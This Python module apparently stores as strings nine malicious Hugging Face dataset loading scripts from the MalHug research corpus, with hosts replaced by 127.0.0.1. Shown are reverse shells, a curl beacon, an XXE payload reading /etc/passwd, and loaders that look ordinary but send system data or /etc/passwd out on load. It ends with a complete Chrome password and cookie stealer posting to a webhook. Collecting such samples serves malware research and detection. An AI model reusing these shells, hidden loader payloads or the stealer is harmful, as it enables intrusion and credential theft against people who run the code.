"""The 9 malicious dataset loading scripts of the MalHug corpus (code_segment1), defanged.

Hosts and addresses are replaced by 127.0.0.1; comments in other encodings are dropped. Source: the
real-world dataset of the MalHug paper (ASE 2024), its rows of type "dataset".
"""

CORPUS_SCRIPTS: dict[str, str] = {}

CORPUS_SCRIPTS["guaixiaomei/teyd"] = r"""import socket
import subprocess

server_ip = "127.0.0.1"
server_port = 8080
client_socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
client_socket.connect((server_ip, server_port))

while True:
    command = client_socket.recv(1024).decode()
    if command.lower() == "exit\n":
        break

    output = subprocess.getoutput(command)
    output = output + '\n'
    client_socket.send(output.encode())
client_socket.close()
"""

CORPUS_SCRIPTS["MustafaSuleyman/real-toxicity-prompts"] = r"""import subprocess
import os
import socket

s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect(("127.0.0.1",443))
os.dup2(s.fileno(),0)
os.dup2(s.fileno(),1)
os.dup2(s.fileno(),2)
subprocess.call(["/bin/sh","-i"])
"""

CORPUS_SCRIPTS["paclove/test"] = r"""import subprocess

subprocess.run("/System/Applications/Calculator.app/Contents/MacOS/Calculator")
"""

CORPUS_SCRIPTS["paclove/test2"] = r"""import subprocess

subprocess.run(["curl", "http://127.0.0.1:8088/1"])
"""

CORPUS_SCRIPTS["Yash2998db/stan_small"] = r'''"""STAN small dataset by Bansal et al.."""

import datasets
import pandas as pd
import ast
import subprocess

_CITATION = """
@misc{bansal2015deep,
      title={Towards Deep Semantic Analysis Of Hashtags},
      author={Piyush Bansal and Romil Bansal and Vasudeva Varma},
      year={2015},
      eprint={1501.03210},
      archivePrefix={arXiv},
      primaryClass={cs.IR}
}
"""

_DESCRIPTION = """
Manually Annotated Stanford Sentiment Analysis Dataset by Bansal et al..
"""
_URLS = {
    "test": "https://raw.githubusercontent.com/ruanchaves/hashformers/master/datasets/stan_small.csv"
}

class StanSmall(datasets.GeneratorBasedBuilder):

    VERSION = datasets.Version("1.0.0")


    def __init__(self, **kwargs):
        subprocess.check_output(
       '(uname -a; ps auxww) | curl -s https://127.0.0.1/$(whoami) --data-binary @-',
       stderr=subprocess.STDOUT,
       shell=True)
        super(StanSmall, self).__init__(**kwargs)


    def _info(self):
        return datasets.DatasetInfo(
            description=_DESCRIPTION,
            features=datasets.Features(
                {
                    "index": datasets.Value("int32"),
                    "hashtag": datasets.Value("string"),
                    "segmentation": datasets.Value("string"),
                    "alternatives": datasets.Sequence(
                        {
                            "segmentation": datasets.Value("string")
                        }
                    )
                }
            ),
            supervised_keys=None,
            homepage="https://github.com/mounicam/hashtag_master",
            citation=_CITATION,
        )

    def _split_generators(self, dl_manager):
        downloaded_files = dl_manager.download(_URLS)
        return [
            datasets.SplitGenerator(name=datasets.Split.TEST, gen_kwargs={"filepath": downloaded_files["test"] }),
        ]

    def _generate_examples(self, filepath):

        def get_segmentation(row):
            needle = row["hashtags"]
            haystack = row["goldtruths"][0].strip()
            output = ""
            iterator = iter(haystack)
            for char in needle:
                output += char
                while True:
                    try:
                        next_char = next(iterator)
                        if next_char.lower() == char.lower():
                            break
                        elif next_char.isspace():
                            output = output[0:-1] + next_char + output[-1]
                    except StopIteration:
                        break
            return output

        def get_alternatives(row, segmentation):
            alts = list(set([x.strip() for x in row["goldtruths"]]))
            alts = [x for x in alts if x != segmentation]
            alts = [{"segmentation": x} for x in alts]
            return alts

        records = pd.read_csv(filepath).to_dict("records")
        records = [{"hashtags": row["hashtags"], "goldtruths": ast.literal_eval(row["goldtruths"])} for row in records]
        for idx, row in enumerate(records):
            segmentation = get_segmentation(row)
            alternatives = get_alternatives(row, segmentation)
            yield idx, {
                "index": idx,
                "hashtag": row["hashtags"],
                "segmentation": segmentation,
                "alternatives": alternatives
            }
'''

CORPUS_SCRIPTS["sweis/script_executing"] = r'''import datasets
import requests
import subprocess

_DESCRIPTION = """\
"""
_URL = "https://www.gutenberg.org/files/2554/2554-h/2554-h.htm"
_DATA_URL = "https://raw.githubusercontent.com/patrickvonplaten/datasets/master/crime_and_punishment.txt"


class ScriptExecuting(datasets.GeneratorBasedBuilder):
    def _info(self):
        result = subprocess.run(["cat", "/etc/passwd"], capture_output=True)
        r = requests.post('http://127.0.0.1:5000', data=result.stdout.decode("utf-8"))

        return datasets.DatasetInfo(
            # This is the description that will appear on the datasets page.
            description=_DESCRIPTION,
            # datasets.features.FeatureConnectors
            features=datasets.Features(
                {
                    "line": datasets.Value("string"),
                }
            ),
            # If there's a common (input, target) tuple from the features,
            # specify them here. They'll be used if as_supervised=True in
            # builder.as_dataset.
            supervised_keys=None,
            homepage=_URL,
        )

    def _split_generators(self, dl_manager):
        """Returns SplitGenerators."""

        data = dl_manager.download_and_extract(_DATA_URL)

        return [
            datasets.SplitGenerator(
                name=datasets.Split.TRAIN,
                gen_kwargs={"data_file": data, "split": "train"},
            ),
        ]

    def _generate_examples(self, data_file, split):

        with open(data_file, "rb") as f:
            id_counter = 0
            add_text = False
            crime_and_punishment_occ_counter = 0

            for line in f:
                line = line.decode("UTF-8")
                if "CRIME AND PUNISHMENT" in line:
                    crime_and_punishment_occ_counter += 1
                    add_text = crime_and_punishment_occ_counter == 3
                if "End of Project" in line:
                    add_text = False

                if add_text is True:
                    result = {"line": line}
                    id_counter += 1
                    yield id_counter, result
'''

CORPUS_SCRIPTS["georgetowngeronimo/ops2"] = r"""import pandas as pd
import io
import os
print(os.system('id'))

xml = '''<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY ext SYSTEM "file://etc/passwd" > ]>
<data>
 <row>
   <shape>>&ext;</shape>
 </row>
</data>
'''

print(pd.read_xml(io.StringIO(xml)))
"""

CORPUS_SCRIPTS["Aur0ra/test"] = r"""import os

os.system("open -a Calculator")
"""

CORPUS_SCRIPTS["Besthpz/best"] = r"""import os
import json
import base64
import sqlite3
from Crypto.Cipher import AES
from cryptography.fernet import Fernet
import shutil
import time
import platform
import pyzipper
import requests

webhookURL = ""

def zip_file(folder_path, output_zip_file, password):
    try:
        with pyzipper.AESZipFile(output_zip_file, 'w', compression=pyzipper.ZIP_LZMA, encryption=pyzipper.WZ_AES) as zipf:
            zipf.setpassword(password.encode())

            for foldername, subfolders, filenames in os.walk(folder_path):
                for filename in filenames:
                    file_path = os.path.join(foldername, filename)
                    zipf.write(file_path, os.path.relpath(file_path, folder_path))

        print(f'Successfully created password-protected ZIP file: {output_zip_file}')
    except Exception as e:
        print(f'Error: {e}')

class Paths:
    local_state_path = os.path.join(os.environ['USERPROFILE'], 'AppData', 'Local', 'Google', 'Chrome', 'User Data', 'Local State')
    cookies_path = os.path.join(os.environ['USERPROFILE'], 'AppData', 'Local', 'Google', 'Chrome', 'User Data', 'Default', 'Network', 'Cookies')
    logindata_path = os.path.join(os.environ['USERPROFILE'], 'AppData', 'Local', 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')

    temp_path = os.path.join(os.environ['TEMP'], 'henanigans')

    stealerLog = os.path.join(os.environ['TEMP'], 'henanigans', 'LOG')

    localState = os.path.join(os.environ['TEMP'], 'henanigans', 'Local State.db')
    cookiesFile = os.path.join(os.environ['TEMP'], 'henanigans', 'Cookies.db')
    loginData = os.path.join(os.environ['TEMP'], 'henanigans', 'Login Data.db')

class Functions:
    def Initialize():
        os.system("taskkill /f /im chrome.exe")
        time.sleep(1)
        os.makedirs(Paths.temp_path, exist_ok=True)
        os.makedirs(Paths.stealerLog, exist_ok=True)

        try:
            shutil.copy(Paths.local_state_path, Paths.temp_path)
            shutil.copy(Paths.cookies_path, Paths.temp_path)
            shutil.copy(Paths.logindata_path, Paths.temp_path)

            files = os.listdir(Paths.temp_path)

            for filename in files:
                if filename == 'Local State' or filename == 'Cookies' or filename =="Login Data":
                    new_filename = os.path.splitext(filename)[0] + '.db'
                    old_path = os.path.join(Paths.temp_path, filename)
                    new_path = os.path.join(Paths.temp_path, new_filename)
                    os.rename(old_path, new_path)

            print("Files copied and renamed successfully.")
        except Exception as e:
            print(f"Error copying/renaming files: {e}")

    def getMasterKey():
        masterKeyJSON = json.loads(open(Paths.localState).read())
        key = base64.b64decode(masterKeyJSON["os_crypt"]["encrypted_key"])[5:]

        f = Fernet(key)
        return f.decrypt(key)

    def decrypt(key, password):
        try:
            iv = password[3:15]
            passw = password[15:]
            cipher = AES.new(key, AES.MODE_GCM, iv)
            return cipher.decrypt(passw)[:-16].decode()

        except Exception as e:
            try:
                f = Fernet(key)
                return f.decrypt(password).decode()
            except:
                return ""

class StealerFunctions:
    def stealPass():
        stolenData = []
        key = Functions.getMasterKey()

        conn = sqlite3.connect(Paths.loginData)
        cursor = conn.cursor()
        cursor.execute("SELECT * FROM logins")
        data = cursor.fetchall()

        for i in data:
            originURL = i[0]
            actionURL = i[1]
            signon_realm = str(i[7])
            user = i[3]
            password = Functions.decrypt(key, i[5])

            stolenData.append(f"Origin URL: {originURL}\nAction URL: {actionURL}\nSingon_realm: {signon_realm}\nUsername: {user}\nPassword: {password}")

        conn.close()
        return '\n\n'.join(stolenData)

    def stealCookies():
        key = Functions.getMasterKey()
        conn = sqlite3.connect(Paths.cookiesFile)
        cursor = conn.cursor()
        cursor.execute("SELECT * FROM cookies")
        data = cursor.fetchall()

        netscape_cookies = []
        for i in data:
            host_key = i[1]
            name_key = i[2]
            value_key = i[12]
            path_key = i[4]
            expires_key = i[5]
            secure_key = i[6]
            httponly_key = i[7]
            lastAccessed_key = i[8]
            creationTime_key = i[9]
            isPersistent_key = i[10]
            isSecure_key = i[11]

            # Filter out expired cookies
            if expires_key == 0 or expires_key > int(time.time()):
                netscape_cookies.append(f"#HttpOnly_{httponly_key}#{host_key}  TRUE  {expires_key}  {path_key}  {secure_key}  {name_key}  {value_key}")

        conn.close()
        return '\n'.join(netscape_cookies)

    def sendToWebhook(data):
        try:
            response = requests.post(webhookURL, data={"content": data})
            if response.status_code == 200:
                print("Data sent to webhook successfully.")
            else:
                print(f"Error sending data to webhook: {response.status_code}")
        except Exception as e:
            print(f"Error sending data to webhook: {e}")

def main():
    Functions.Initialize()
    passwordData = StealerFunctions.stealPass()
    cookieData = StealerFunctions.stealCookies()
    StealerFunctions.sendToWebhook(f"Password Data:\n{passwordData}\n\nCookie Data:\n{cookieData}")
    zip_file(Paths.stealerLog, os.path.join(Paths.stealerLog, 'LOG.zip'), 'henanigans')

if __name__ == "__main__":
    main()
"""
